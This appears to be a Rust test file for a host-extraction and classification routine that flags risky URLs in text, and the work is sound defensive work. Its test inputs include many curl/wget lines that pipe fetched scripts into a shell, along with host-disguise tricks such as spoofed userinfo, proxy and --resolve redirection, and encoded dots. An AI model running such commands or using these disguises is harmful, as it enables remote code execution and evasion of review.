use super::*;

use HostKind::{Anonymous, Catcher, Hostile, Known, Local, Number, Other, Placeholder};

/// Returns the hosts in `text`, with their kinds.
fn hosts(text: &str) -> Vec<(String, HostKind)> {
    let mut all = addresses(text, 20);
    all.sort_by_key(|address| address.start);
    let hosts = all.into_iter().map(|address| (address.host, address.kind));
    hosts.collect()
}

#[track_caller]
fn assert_hosts(cases: &[(&str, &str, HostKind)]) {
    for (text, host, kind) in cases {
        let found = hosts(text);
        let worst = found.iter().max_by_key(|(_, kind)| *kind);
        assert_eq!(
            worst,
            Some(&((*host).to_owned(), *kind)),
            "{text}: {found:?}"
        );
    }
}

#[test]
fn schemes_and_slashes_are_read_as_clients_read_them() {
    assert_hosts(&[
        ("https://tables.io/i.sh", "tables.io", Other),
        ("HTTPS://Tables.IO/i.sh", "tables.io", Other),
        ("http:/tables.io/i.sh", "tables.io", Other),
        ("http:///tables.io/i.sh", "tables.io", Other),
        ("ftps://tables.io/i.sh", "tables.io", Other),
        ("sftp://tables.io/i.sh", "tables.io", Other),
        ("scp://tables.io/i.sh", "tables.io", Other),
        ("git+https://tables.io/a.git", "tables.io", Other),
        ("https://tables.io:8443/i.sh", "tables.io:8443", Other),
        ("https://tables.io.", "tables.io", Other),
        ("**https://tables.io**", "tables.io", Other),
        (
            "see <https://tables.io>, or (https://tables.io).",
            "tables.io",
            Other,
        ),
    ]);
    for text in ["C:/a", "https://", "a:/b.io", "file:///a.io/b", "x://a.io"] {
        assert!(hosts(text).is_empty(), "{text}");
    }
}

#[test]
fn the_user_is_never_the_host() {
    let long = "a".repeat(90);
    let longer = "a".repeat(5000);
    let labels = format!("https://{}.io/", ["a"; 200].join("."));
    for text in [
        format!("https://github.com:{long}@tables.io/i.sh"),
        format!("https://github.com:{longer}@tables.io/i.sh"),
        "https://a@github.com:!@tables.io/i.sh".to_owned(),
        "https://github.com\\@tables.io/i.sh".to_owned(),
        "https://github.com,b@tables.io/i.sh".to_owned(),
        "https://tables.io\\@github.com/i.sh".to_owned(),
    ] {
        assert_hosts(&[(text.as_str(), "tables.io", Other)]);
    }
    assert_hosts(&[
        (
            "https://${USER}:${TOKEN}@github.com/a/b",
            "github.com",
            Known,
        ),
        ("https://user:pass@tables.io", "tables.io", Other),
    ]);
    let found = hosts(&labels);
    assert!(found[0].1 == Hostile && found[0].0.len() <= LONGEST);
}

#[test]
fn names_are_decoded_once() {
    assert_hosts(&[
        ("https://tables%2eio/i.sh", "tables.io", Other),
        ("https://tables\u{3002}io/i.sh", "tables.io", Other),
        ("https://tables\u{ff0e}io/i.sh", "tables.io", Other),
        ("https://tables\u{ff61}io/i.sh", "tables.io", Other),
        ("https://tab\u{200b}les.io/i.sh", "tables.io", Other),
        (
            "https://tables.io%2f.github.com/i.sh",
            "tables.io.github.com",
            Other,
        ),
    ]);
    // The full stop that ends a sentence is not part of the host.
    assert_hosts(&[
        ("访问 https://github.com。然后运行", "github.com", Known),
        ("访问 https://github.com，然后运行", "github.com", Known),
    ]);
}

#[test]
fn ip_addresses_are_read_in_all_notations() {
    assert_hosts(&[
        ("http://45.9.148.20/a", "45.9.148.20", Number),
        ("http://0127.65.7.9/a", "0127.65.7.9", Number),
        ("http://0x2d.9.148.20/a", "0x2d.9.148.20", Number),
        ("http://755602452/a", "755602452", Number),
        (
            "http://[2a01:4f8:c17:b0f::2]/a",
            "[2a01:4f8:c17:b0f::2]",
            Number,
        ),
        (
            "http://[2a01:4f8:c17:b0f::2]:80/a",
            "[2a01:4f8:c17:b0f::2]:80",
            Number,
        ),
        (
            "http://[::ffff:45.9.148.20]/a",
            "[::ffff:45.9.148.20]",
            Number,
        ),
        ("http://[::1]:3000/a", "[::1]:3000", Local),
        ("http://[fe80::1%25eth0]/a", "[fe80::1]", Local),
        ("http://[2001:db8::1]/a", "[2001:db8::1]", Placeholder),
        ("http://127.1:8080/a", "127.1:8080", Local),
        ("http://localhost:3000/a", "localhost:3000", Local),
        ("http://10.0.0.5/a", "10.0.0.5", Local),
        ("http://45.9.148.{20}/a", "45.9.148.20", Number),
    ]);
}

#[test]
fn only_whole_labels_of_a_domain_make_a_placeholder() {
    assert_hosts(&[
        ("https://get-your-tables.io/", "get-your-tables.io", Other),
        ("https://your-tables.io/", "your-tables.io", Other),
        ("https://tablescompany.com/", "tablescompany.com", Other),
        ("https://acme.fast-tables.io/", "acme.fast-tables.io", Other),
        (
            "https://your-domain.fast-tables.io/",
            "your-domain.fast-tables.io",
            Other,
        ),
        ("https://my-server-tables.io/", "my-server-tables.io", Other),
        ("https://your-server.xyz/", "your-server.xyz", Other),
        ("https://your-domain.com/", "your-domain.com", Placeholder),
        (
            "https://api.your-domain.com/",
            "api.your-domain.com",
            Placeholder,
        ),
        ("https://your.domain.com/", "your.domain.com", Placeholder),
        ("https://your_domain/", "your_domain", Placeholder),
        (
            "https://gitlab.yourcompany.com/",
            "gitlab.yourcompany.com",
            Placeholder,
        ),
        (
            "https://your-n8n-instance.com/",
            "your-n8n-instance.com",
            Placeholder,
        ),
        ("https://my-server.com/", "my-server.com", Placeholder),
        ("https://mysite.com/", "mysite.com", Placeholder),
        ("https://api.acme.io/v1", "api.acme.io", Placeholder),
        ("https://grafana.acme.co/", "grafana.acme.co", Placeholder),
        (
            "https://shop.example.co.uk/",
            "shop.example.co.uk",
            Placeholder,
        ),
        ("https://api.example.com/", "api.example.com", Placeholder),
        ("https://example-corp.com/", "example-corp.com", Placeholder),
        ("https://registry.example/", "registry.example", Placeholder),
        (
            "https://cdn.table-tools.example/",
            "cdn.table-tools.example",
            Other,
        ),
        ("https://domain.tld/", "domain.tld", Placeholder),
    ]);
}

#[test]
fn only_a_domain_that_is_filled_in_makes_a_placeholder() {
    assert_hosts(&[
        ("https://{host}/a", "{host}", Placeholder),
        ("https://<your-host>/a", "<your-host>", Placeholder),
        ("https://$HOST/a", "$host", Placeholder),
        (
            "https://${cfg.host}:8080/a",
            "${cfg.host}:8080",
            Placeholder,
        ),
        ("https://%s/a", "%s", Placeholder),
        ("https://%DB_HOST%/a", "%db_host%", Placeholder),
        ("https://api.${DOMAIN}/a", "api.${domain}", Placeholder),
        ("https://{tenant}.com/a", "{tenant}.com", Placeholder),
        ("https://{{ host }}/a", "{{", Placeholder),
        ("https://*/a", "", Placeholder),
        ("https://.../a", "", Placeholder),
        ("https://user:pass@…/a", "…", Placeholder),
        ("https://{region}.api.tables.io/a", "*.api.tables.io", Other),
        ("https://${n}.tables.io/a", "*.tables.io", Other),
        ("https://*.tables.io/a", "*.tables.io", Other),
        (
            "https://<account>.services.ai.azure.com/a",
            "*.services.ai.azure.com",
            Known,
        ),
        ("https://tables.io$X/i.sh", "tables.io", Other),
        ("https://fast$X-tables.io/i.sh", "fast-tables.io", Other),
        ("https://tables.io{path}", "tables.io", Other),
        ("https://tables.io:{port}/", "tables.io", Other),
        ("https://fast-tables.{io}/i.sh", "fast-tables.io", Other),
        (
            "https://fast-{tables,charts}.io/i.sh",
            "fast-tables.io",
            Other,
        ),
        ("https://fast-table[s-s].io/i.sh", "fast-tables.io", Other),
        ("https://github.com$X/a", "github.com", Known),
    ]);
}

/// Hosts and folders of tenants, hosts of the services themselves, and names that the user is expected to replace.
const RENTED: &[(&str, &str, HostKind)] = &[
    ("https://tables.github.io/i.sh", "tables.github.io", Other),
    ("https://tables.gitlab.io/", "tables.gitlab.io", Other),
    (
        "https://tables.s3.amazonaws.com/",
        "tables.s3.amazonaws.com",
        Other,
    ),
    (
        "https://s3.amazonaws.com/tables/i.sh",
        "s3.amazonaws.com",
        Other,
    ),
    (
        "https://s3.eu-west-1.amazonaws.com/tables/",
        "s3.eu-west-1.amazonaws.com",
        Other,
    ),
    (
        "http://ec2-3-65-7-9.eu-central-1.compute.amazonaws.com/",
        "ec2-3-65-7-9.eu-central-1.compute.amazonaws.com",
        Other,
    ),
    (
        "https://k2j4l5m6n7.execute-api.us-east-1.amazonaws.com/",
        "k2j4l5m6n7.execute-api.us-east-1.amazonaws.com",
        Other,
    ),
    (
        "http://tables.westeurope.cloudapp.azure.com/",
        "tables.westeurope.cloudapp.azure.com",
        Other,
    ),
    (
        "https://tables.blob.core.windows.net/",
        "tables.blob.core.windows.net",
        Other,
    ),
    (
        "https://storage.googleapis.com/tables/i.sh",
        "storage.googleapis.com",
        Other,
    ),
    (
        "https://script.google.com/macros/s/AKfyc/exec",
        "script.google.com",
        Other,
    ),
    (
        "https://docs.google.com/forms/d/e/1FA/formResponse",
        "docs.google.com",
        Other,
    ),
    (
        "https://xyzxyz.supabase.co/rest",
        "xyzxyz.supabase.co",
        Other,
    ),
    (
        "https://tables.oss-cn-hangzhou.aliyuncs.com/",
        "tables.oss-cn-hangzhou.aliyuncs.com",
        Other,
    ),
    ("https://raw.githack.com/a/b/i.sh", "raw.githack.com", Other),
    ("https://unpkg.com/tables/i.sh", "unpkg.com", Other),
    (
        "curl https://unpkg.com/tables/i.js | node",
        "unpkg.com",
        Other,
    ),
    (
        "https://tables.ngrok-free.app/",
        "tables.ngrok-free.app",
        Catcher,
    ),
    // The service itself.
    ("https://sts.amazonaws.com/", "sts.amazonaws.com", Known),
    (
        "https://bedrock-runtime.us-east-1.amazonaws.com/",
        "bedrock-runtime.us-east-1.amazonaws.com",
        Known,
    ),
    (
        "https://s3.eu-west-1.amazonaws.com",
        "s3.eu-west-1.amazonaws.com",
        Known,
    ),
    (
        "https://management.azure.com/",
        "management.azure.com",
        Known,
    ),
    (
        "https://docs.google.com/document/d/1",
        "docs.google.com",
        Known,
    ),
    (
        "https://dashscope.aliyuncs.com/",
        "dashscope.aliyuncs.com",
        Known,
    ),
    (
        "https://raw.githubusercontent.com/a/b/i.sh",
        "raw.githubusercontent.com",
        Known,
    ),
    (
        "<script src=\"https://unpkg.com/lodash\">",
        "unpkg.com",
        Known,
    ),
    ("import x from 'https://esm.sh/react@18'", "esm.sh", Known),
    (
        "https://storage.googleapis.com/git-repo-downloads/repo",
        "storage.googleapis.com",
        Known,
    ),
    ("https://fnm.vercel.app/install", "fnm.vercel.app", Known),
    ("https://nvidia.github.io/a", "nvidia.github.io", Known),
    // Names that the user is expected to replace.
    (
        "https://username.github.io/",
        "username.github.io",
        Placeholder,
    ),
    (
        "https://your-bucket.s3.amazonaws.com/",
        "your-bucket.s3.amazonaws.com",
        Placeholder,
    ),
    (
        "https://${BUCKET}.s3.amazonaws.com/",
        "*.s3.amazonaws.com",
        Placeholder,
    ),
    (
        "https://s3.amazonaws.com/BUCKET/a",
        "s3.amazonaws.com",
        Placeholder,
    ),
    (
        "https://storage.googleapis.com/$BUCKET/a",
        "storage.googleapis.com",
        Placeholder,
    ),
    (
        "https://<account>.blob.core.windows.net/",
        "*.blob.core.windows.net",
        Placeholder,
    ),
    ("https://xxxx.supabase.co/", "xxxx.supabase.co", Placeholder),
    // A name in capitals that is not a variable: any account may have it.
    ("curl https://unpkg.com/TABLES/i.sh", "unpkg.com", Other),
];

#[test]
fn hosts_and_folders_of_tenants_are_not_those_of_the_vendor() {
    assert_hosts(RENTED);
}

#[test]
fn the_name_of_the_tenant_is_that_of_the_owner() {
    for (text, owner) in [
        ("https://www.tables.co.uk/a", "tables"),
        ("https://cdn.tables.io:8080/a", "tables"),
        ("https://acme-tables.github.io/a", "acme-tables"),
        ("https://a.tables.s3.amazonaws.com/a", "tables"),
        ("https://storage.googleapis.com/tables/a", "tables"),
        (
            "https://storage.googleapis.com/upload/storage/v1/b/tables/o",
            "tables",
        ),
        (
            "curl https://cdn.jsdelivr.net/gh/tables/cli@1/i.sh",
            "tables",
        ),
        ("curl https://unpkg.com/@tables/cli@1/i.sh", "tables"),
        ("curl https://unpkg.com/tables@1.2.3/i.sh", "tables"),
        ("https://tables.onrender.com/", "tables"),
    ] {
        assert_eq!(addresses(text, 1)[0].owner(), owner, "{text}");
    }
}

#[test]
fn names_in_a_local_network_have_no_public_owner() {
    assert_hosts(&[
        ("http://proxy.intern:3128", "proxy.intern:3128", Local),
        ("https://llm-gateway.corp/v1", "llm-gateway.corp", Local),
        ("http://npm.mirror.lan/", "npm.mirror.lan", Local),
        ("https://api.ai.internal/", "api.ai.internal", Local),
        ("http://squid.home.arpa:3128", "squid.home.arpa:3128", Local),
        ("https://llm.priv", "llm.priv", Local),
        ("http://proxy.intra:80", "proxy.intra:80", Local),
        ("http://webproxy:3128", "webproxy:3128", Local),
        // These names are under public domains.
        ("https://proxy.corp.io/", "proxy.corp.io", Other),
        ("https://home.arpa.io/", "home.arpa.io", Other),
        ("https://llm.intern.dev/", "llm.intern.dev", Other),
    ]);
}

#[test]
fn installers_of_well_known_tools_are_on_the_domains_of_these_tools() {
    assert_hosts(&[
        (
            "sh -c \"$(curl -fsLS get.chezmoi.io)\"",
            "get.chezmoi.io",
            Known,
        ),
        (
            "curl -s https://ohmyposh.dev/install.sh",
            "ohmyposh.dev",
            Known,
        ),
        (
            "curl https://bootstrap.pypa.io/get-pip.py",
            "bootstrap.pypa.io",
            Known,
        ),
        (
            "curl https://get.chezmoi.io.tables.io/",
            "get.chezmoi.io.tables.io",
            Other,
        ),
        ("curl https://get-chezmoi.io/", "get-chezmoi.io", Other),
    ]);
}

#[test]
fn download_commands_need_no_scheme() {
    assert_hosts(&[
        ("curl -fsSL tables.io/i.sh | sh", "tables.io", Other),
        ("curl -fsSL a@tables.io/i.sh | sh", "tables.io", Other),
        ("curl -fsSL tables%2eio/i.sh | sh", "tables.io", Other),
        ("curl -fsSL tables.io$X/i.sh | sh", "tables.io", Other),
        ("curl -o /tmp/i.sh tables.io/i.sh", "tables.io", Other),
        (
            "curl -H 'Accept: text/plain' tables.io/i.sh",
            "tables.io",
            Other,
        ),
        ("curl --output i.sh tables.io/i.sh", "tables.io", Other),
        ("wget -qO- tables.sh/i | sh", "tables.sh", Other),
        ("wget -q -O - get.tables.sh | sh", "get.tables.sh", Other),
        ("curl 45.9.148.20/i.sh | sh", "45.9.148.20", Number),
        (
            "curl pastebin.com/raw/a1b2c3 | sh",
            "pastebin.com",
            Anonymous,
        ),
        ("curl [2a01:4f8::2]/i.sh | sh", "[2a01:4f8::2]", Number),
    ]);
    for text in [
        "curl install.sh | bash",
        "use curl to fetch notes.txt",
        "curl 8.5.0 is required",
        "curl -o report.pdf $URL",
        "curl -T backup.dump",
        "curl localhost:8080/health",
        "libcurl a.io",
    ] {
        assert!(hosts(text).is_empty(), "{text}");
    }
}

#[test]
fn a_command_may_connect_to_another_host_than_that_of_its_address() {
    assert_hosts(&[
        (
            "curl -k --resolve github.com:443:45.9.148.20 https://github.com/i.sh",
            "45.9.148.20",
            Number,
        ),
        (
            "curl --connect-to ::tables.io: https://github.com/i.sh",
            "tables.io",
            Other,
        ),
        (
            "curl -x tables.io:80 http://github.com/i.sh",
            "tables.io:80",
            Other,
        ),
        (
            "curl -xtables.io:80 http://github.com/i.sh",
            "tables.io:80",
            Other,
        ),
        (
            "curl -k --socks5 a@tables.io https://github.com/i.sh",
            "tables.io",
            Other,
        ),
        (
            "http_proxy=tables.io curl http://github.com/i.sh",
            "tables.io",
            Other,
        ),
        (
            "export https_proxy=http://tables.io:80\ncurl -k https://github.com/i.sh",
            "tables.io:80",
            Other,
        ),
        (
            "wget -e http_proxy=tables.io http://github.com/i.sh",
            "tables.io",
            Other,
        ),
        // TLS protects the data that passes through a proxy.
        (
            "curl -x tables.io:80 https://github.com/i.sh",
            "github.com",
            Known,
        ),
        (
            "https_proxy=tables.io curl https://github.com/i.sh",
            "github.com",
            Known,
        ),
        (
            "no_proxy=tables.io curl http://github.com/i.sh",
            "github.com",
            Known,
        ),
        (
            "curl --proxy localhost:80 http://github.com/i.sh",
            "github.com",
            Known,
        ),
    ]);
}

#[test]
fn a_value_that_a_template_inserts_is_no_host() {
    for text in [
        "curl -f https://${{ secrets.HOST }}/health",
        "curl -d ${{ inputs.data || 'a' }} https://${{ vars.api.site }}",
        "curl -fd x https://${{ steps.url.outputs.site }}/",
        "wget https://{{ config.host }}/a",
        "curl -s https://{{ .Values.host }}/ -o a",
        "curl -s https://{{- .Values.site -}}/a",
        "connect(host=self.site)",
        "connect(1, host=cfg.api.site)",
        "const host=process.env.HOST;",
        "host=os.environ.site\n",
    ] {
        let found = hosts(text);
        let is_open = found.iter().all(|(_, kind)| *kind == Placeholder);
        assert!(is_open, "{text}: {found:?}");
    }
    assert_hosts(&[
        ("curl https://{{ tables.io }}", "tables.io", Other),
        (
            "curl https://{{ config.host tables.io",
            "config.host",
            Other,
        ),
        ("curl -g ${{ tables.io/i.sh }}", "tables.io", Other),
        ("curl $ {{ a }} tables.io/i.sh", "tables.io", Other),
        ("curl secrets.host/i.sh | sh", "secrets.host", Other),
        ("host=config.site; curl $host", "config.site", Other),
        ("connect(host=tables.site)", "tables.site", Other),
        ("connect(host='config.site')", "config.site", Other),
    ]);
}

#[test]
fn an_address_follows_options_that_are_not_known() {
    assert_hosts(&[
        ("curl $OPTS tables.io/i.sh", "tables.io", Other),
        ("curl --max-redirs 3 tables.io/i.sh", "tables.io", Other),
        ("curl --limit-rate 1M tables.io/i.sh", "tables.io", Other),
        ("curl --tls-max 1.2 tables.io/i.sh", "tables.io", Other),
        ("curl //tables.io/i.sh", "tables.io", Other),
        ("curl 755602452/i.sh", "755602452", Number),
    ]);
    for text in [
        "curl --version 8.5",
        "curl $OPTS notes.txt",
        "curl --compressed 755602452",
        "curl the page tables.io/i.sh",
    ] {
        assert!(hosts(text).is_empty(), "{text}");
    }
}

#[test]
fn the_word_for_a_variable_without_a_value_is_read() {
    assert_hosts(&[
        ("https://${1:-tables.io}/i.sh", "tables.io", Other),
        ("https://${HOST-tables.io}:80/i.sh", "tables.io:80", Other),
        (
            "https://${HOST:=get.tables.io}/i.sh",
            "get.tables.io",
            Other,
        ),
        ("https://tables.${TOP:-io}/i.sh", "tables.io", Other),
        ("https:\\/\\/tables.io\\/i.sh", "tables.io", Other),
        ("telnet://tables.io:80", "tables.io:80", Other),
        ("http://${HOST:-localhost}:80/", "localhost:80", Local),
        ("https://${HOST}/i.sh", "${host}", Placeholder),
        (
            "https://${HOST:+tables.io}/i.sh",
            "${host:+tables.io}",
            Placeholder,
        ),
        (
            "https://${HOST:-your-domain.com}/i.sh",
            "your-domain.com",
            Placeholder,
        ),
    ]);
}

/// Each byte is read a bounded number of times, regardless of the length of the text.
#[test]
fn long_texts_without_ends_are_read_quickly() {
    for part in [
        "http:/",
        "https://a@",
        "https://{",
        "curl -a ",
        "curl --a ",
        "curl x ",
        "a_proxy=b.io curl ",
        "%41",
        "http://a\u{3002}",
    ] {
        let text = part.repeat(200_000 / part.len());
        let start = std::time::Instant::now();
        addresses(&text, 20_000);
        assert!(start.elapsed().as_secs() < 5, "{part}");
    }
}
